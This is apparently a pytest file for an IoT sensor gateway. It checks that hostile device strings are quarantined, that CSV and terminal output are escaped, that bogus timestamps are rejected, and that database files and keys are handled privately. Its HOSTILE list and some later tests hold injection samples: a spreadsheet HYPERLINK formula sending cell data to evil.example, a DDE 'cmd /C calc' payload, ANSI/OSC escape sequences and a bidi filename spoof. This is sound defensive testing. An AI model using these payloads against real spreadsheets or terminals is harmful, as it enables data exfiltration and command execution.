"""Hostile strings and dates from a device holding its own key (issue 14), on both databases:
free text outside the documented safe sets is quarantined `invalid`; what leaves the gateway
(observatory CSV, the administrators' terminal) is escaped; a reading dated before the fixed floor
or long before the device's registration is never filed at that date."""
from __future__ import annotations

import datetime as dt
import json
import os
import time

import pytest

from gateway import admin, observatory
from gateway.cli import main as gw
from gateway.db import Database
from gateway.status import check_values as status_values
from gateway.store import Message, Store
from tests.support.generator import SimDevice, reading, sign_reading, topic
from tests.support.harness import write_config

UTC = dt.timezone.utc
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"update")', "0.1.0\x1b[2J\x1b[31m", "0.1.0\u202egnp.exe",
           "+cmd|' /C calc'!A0", "0.1.0\n", "<script>", "0.1.0 ", ""]


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request, tmp_path):
    url = f"sqlite:///{tmp_path}/gateway.db" if request.param == "sqlite" else request.getfixturevalue("pg_url")
    d = Database(url)
    d.migrate()
    return d


def _process(db, kek, dev, *payloads):
    store = Store(db, kek)
    conn = db.open()
    try:
        now = dt.datetime.now(UTC)
        msgs = [Message(topic(dev.id), sign_reading(dev.key, dev.kid, p), now) for p in payloads]
        return store.process(conn, msgs).verdicts
    finally:
        conn.close()


def test_free_text_outside_the_safe_sets_is_quarantined_invalid(db):
    kek, dev = os.urandom(32), SimDevice("nabd-hostile01")
    admin.add_device(db, kek, dev.id, dev.key, "F", "MA-01")
    payloads = [reading(dev.id, i + 1, fw=fw) for i, fw in enumerate(HOSTILE)]
    for j, cal_id in enumerate(["cal\u200d-2026", "=1+1", "cal 2026", "x" * 65]):
        p = reading(dev.id, 100 + j)
        p["cal"] = {"id": cal_id, "date": "2026-01-02"}
        payloads.append(p)
    ok = reading(dev.id, 200, fw="0.2.0-rc.1+build_5")
    ok["cal"] = {"id": "cal-2026-11-02.A", "date": "2026-11-02"}
    verdicts = _process(db, kek, dev, *payloads, ok)
    assert [(v.kind, v.reason) for v in verdicts[:-1]] == [("reject", "invalid")] * (len(payloads))
    assert verdicts[-1].kind == "accept"
    with db.connect() as c:
        assert c.execute("SELECT fw, cal_id FROM devices").fetchone() == ("0.2.0-rc.1+build_5", "cal-2026-11-02.A")


def test_status_free_text_is_checked_too():
    base = {"v": 1, "dev": "nabd-hostile01", "state": "online", "conn": 1, "ts": int(time.time()), "ts_ok": True,
            "up": 5, "fw": "0.1.0", "rssi": None, "heap": 1, "outbox": 0, "drops": 0, "seq": 0, "errors": 0,
            "sensors": {"mlx90614": "ok", "max30102": "error-flag"}, "cal_due": None}
    assert status_values(base, time.time()) is None
    for bad in ({"fw": "0.1\x1b]0;pwned\x07"}, {"sensors": {"mlx90614": "ok\u202e"}}, {"sensors": {"=x": "ok"}}):
        assert status_values({**base, **bad}, time.time())[0] == "invalid", bad


def test_observatory_csv_neutralises_formulas():
    report = {"rows": [{"date": "2026-11-30", "region": "MA-01", "region_name": "Tanger", "facility": "=1+2",
                        "devices_registered": 1, "devices_active": 1, "readings": dict.fromkeys(observatory.KINDS, 1),
                        "calibration_overdue": 0, "firmware": {'@SUM(1)': 1}, "suppressed": False}]}
    row = observatory.to_csv(report).splitlines()[1]
    assert ",'=1+2," in row and ",'@SUM(1):1," in row, row
    assert ",1,1,1,1,1,1,0," in row     # numbers untouched


def test_cli_terminal_output_escapes_control_and_bidi_characters(tmp_path, capsys, db):
    """A row stored before the safe sets (or typed by an administrator) is still shown escaped."""
    cfg = write_config(tmp_path / "cfg", "mqtt://127.0.0.1:1", db.url)
    admin.add_device(db, os.urandom(32), "nabd-legacy01", os.urandom(32), "F", "MA-01")
    with db.connect() as c:
        c.execute(db.sql("UPDATE devices SET fw = ? WHERE id = ?"), ("0.1\x1b[2J\u202eexe", "nabd-legacy01"))
        c.execute(db.sql("INSERT INTO quarantine (received_at, reason, topic, device_hint, raw, detail) "
                         "VALUES (?, 'invalid', ?, ?, ?, ?)"),
                  (dt.datetime.now(UTC), topic("nabd-legacy01"), "nabd-legacy01", b"x", "fw '\x1b]0;owned\x07'"))
    assert gw(["devices", "list", "--config", str(cfg)]) == 0
    assert gw(["quarantine", "list", "--config", str(cfg)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
    assert "0.1\\x1b[2J\\u202eexe" in out and "\\x1b]0;owned\\x07" in out
    # --json keeps the exact text (JSON escapes it; a program reads it back unchanged)
    assert gw(["devices", "list", "--json", "--config", str(cfg)]) == 0
    assert json.loads(capsys.readouterr().out)[0]["fw"] == "0.1\x1b[2J\u202eexe"


def test_readings_dated_1970_or_long_before_registration_are_not_filed_at_that_date(db):
    kek, dev = os.urandom(32), SimDevice("nabd-clock001")
    admin.add_device(db, kek, dev.id, dev.key, "F", "MA-01")
    now = int(time.time())
    verdicts = _process(db, kek, dev, reading(dev.id, 1, ts=0), reading(dev.id, 2, ts=86400 * 365 * 10),
                        reading(dev.id, 3, ts=now - 40 * 86400),       # 40 days before registration
                        reading(dev.id, 4, ts=now - 20 * 86400),       # within the tolerance: filed
                        reading(dev.id, 5, ts=1970, ts_ok=False))      # unsynced: filed at receipt time
    assert [(v.kind, v.reason) for v in verdicts] == [("reject", "invalid")] * 3 + [("accept", "")] * 2
    with db.connect() as c:
        rows = c.execute("SELECT seq, effective_at FROM readings ORDER BY seq").fetchall()
    assert [s for s, _ in rows] == [4, 5]
    assert all(str(e)[:4] >= "2025" for _, e in rows), rows
    # a 1970 row stored by an older gateway is not counted by the observatory
    with db.connect() as c:
        c.execute(db.sql("UPDATE readings SET effective_at = ? WHERE seq = 4"), (dt.datetime(1970, 1, 1, tzinfo=UTC),))
    report = observatory.device_counts(db, "1970-01-01", "1970-01-02", suppress_below=1)
    assert all(r["devices_active"] in (0, None) and not any(r["readings"].values()) for r in report["rows"]), report


def test_database_files_are_private(tmp_path):
    url = f"sqlite:///{tmp_path}/records.db"
    d = Database(url)
    d.migrate()
    admin.add_device(d, os.urandom(32), "nabd-mode0001", os.urandom(32), "F", "MA-01")
    conn = d.open()                     # while a connection is open the -wal and -shm files exist
    conn.execute("SELECT COUNT(*) FROM devices").fetchone()
    files = [tmp_path / n for n in ("records.db", "records.db-wal", "records.db-shm")]
    assert all(f.exists() for f in files)
    assert {f.name: oct(f.stat().st_mode & 0o777) for f in files} == {f.name: "0o600" for f in files}
    conn.close()
    (tmp_path / "records.db").chmod(0o644)      # an older file is tightened when opened
    d.open().close()
    assert (tmp_path / "records.db").stat().st_mode & 0o777 == 0o600


def test_keys_come_from_stdin_or_a_file_and_argv_is_warned(tmp_path, monkeypatch, capsys, db):
    import io

    cfg = write_config(tmp_path / "cfg", "mqtt://127.0.0.1:1", db.url)
    key = os.urandom(32).hex()
    base = ["--facility", "F", "--region", "MA-01", "--config", str(cfg)]
    monkeypatch.setattr("sys.stdin", io.StringIO(key + "\n"))
    assert gw(["devices", "add", "nabd-stdin001", "--key", "-", *base]) == 0
    kf = tmp_path / "key.hex"
    kf.write_text(key)
    assert gw(["devices", "add", "nabd-file0001", "--key-file", str(kf), *base]) == 0
    monkeypatch.setattr("sys.stdin", io.StringIO(""))   # not a terminal, nothing given: refused, exit 2
    assert gw(["devices", "add", "nabd-none0001", *base]) == 2
    assert gw(["devices", "rotate-key", "nabd-file0001", "--key-file", str(kf), "--config", str(cfg)]) == 0
    capsys.readouterr()
    assert gw(["devices", "add", "nabd-argv0001", "--key", key, *base]) == 0
    err = capsys.readouterr().err
    assert "visible to every user" in err and key not in err
    with db.connect() as c:
        assert sorted(r[0] for r in c.execute("SELECT id FROM devices").fetchall()) == [
            "nabd-argv0001", "nabd-file0001", "nabd-stdin001"]
